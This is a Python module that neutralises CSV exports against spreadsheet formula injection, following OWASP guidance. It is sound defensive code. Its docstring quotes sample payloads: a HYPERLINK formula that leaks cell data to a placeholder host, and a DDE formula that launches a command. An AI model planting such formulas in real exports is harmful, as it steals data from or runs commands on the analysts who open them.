"""Every CSV the workbench writes goes through here, so that no cell becomes a spreadsheet formula.

Principal names, feature names and values, predictions and decision ids are written by the callers under
investigation. A cell such as `=HYPERLINK("http://x/?"&A1)`, `=cmd|' /C calc'!A0` or `@SUM(...)` runs when an
analyst opens the export in Excel, LibreOffice or Sheets. Following OWASP's CSV injection guidance (and ASVS
1.2.10):

- a text cell whose first character (after any leading spaces) is `=`, `+`, `-`, `@`, a tab, a carriage return,
  a line feed or NUL - or the full-width `＝ ＋ － ＠` - gets a leading single quote, which spreadsheets read as
  "this is text" (the original text follows it unchanged);
- every text cell is quoted and embedded double quotes are doubled (the csv module, RFC 4180), so a comma,
  quote or newline inside a value cannot start a new cell;
- a number stays a number: a value of a numeric type is written as is, and so is text that is exactly a decimal
  number (`-5`, `+1.5`, `-2e-3`). A spreadsheet reads those as that number and never as a formula; OWASP notes
  that escaping them would only corrupt legitimate negative numbers. Anything more (`-1+1`, `-5%`, `+A1`) is
  treated as text and neutralised.

Column names are cells too and are neutralised the same way.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """Text made safe to open in a spreadsheet: a leading single quote when it could start a formula."""
    if _NUMBER.fullmatch(text):
        return text
    return "'" + text if text.lstrip(" ").startswith(TRIGGERS) else text


def safe_cell(value: Any) -> Any:
    """One cell for csv.writer: numbers as numbers, missing values empty, everything else neutralised text."""
    if value is None or value is pd.NA or value is pd.NaT:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, float):
        return "" if math.isnan(value) else (value if math.isfinite(value) else neutralise(str(value)))
    if isinstance(value, np.datetime64):
        value = pd.Timestamp(value)
    elif isinstance(value, np.generic):  # numpy numbers and booleans
        return safe_cell(value.item())
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, datetime | date):
        return neutralise(value.isoformat())
    if isinstance(value, bytes):
        value = value.decode("utf-8", "replace")
    if isinstance(value, dict | list | tuple):
        import json

        value = json.dumps(value, default=str, ensure_ascii=False)
    return neutralise(str(value))


def _rows(data: pd.DataFrame | Iterable[Sequence[Any]] | Iterable[dict[str, Any]],
          columns: Sequence[str] | None) -> tuple[list[str], Iterable[Sequence[Any]]]:
    if isinstance(data, pd.DataFrame):
        cols = [str(c) for c in data.columns] if columns is None else list(columns)
        frame = data if columns is None else data[list(columns)]
        return cols, frame.itertuples(index=False, name=None)
    items = list(data)
    if columns is None:
        if items and isinstance(items[0], dict):
            columns = list(items[0])
        else:
            raise ValueError("columns are required for rows that are not dictionaries")
    cols = list(columns)
    return cols, ([r.get(c) for c in cols] if isinstance(r, dict) else r for r in items)


def csv_text(data: pd.DataFrame | Iterable[Sequence[Any]] | Iterable[dict[str, Any]],
             columns: Sequence[str] | None = None) -> str:
    """CSV text (header row first) of a DataFrame, dictionaries or row sequences, every cell neutralised."""
    cols, rows = _rows(data, columns)
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    writer.writerow([neutralise(str(c)) for c in cols])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return out.getvalue()


def csv_bytes(data: pd.DataFrame | Iterable[Sequence[Any]] | Iterable[dict[str, Any]],
              columns: Sequence[str] | None = None) -> bytes:
    """UTF-8 CSV bytes for a download (see csv_text)."""
    return csv_text(data, columns).encode("utf-8")


def write_csv(path: str | Path, data: pd.DataFrame | Iterable[Sequence[Any]] | Iterable[dict[str, Any]],
              columns: Sequence[str] | None = None) -> Path:
    """Write a CSV file (see csv_text) and return its path."""
    target = Path(path)
    target.write_bytes(csv_bytes(data, columns))
    return target
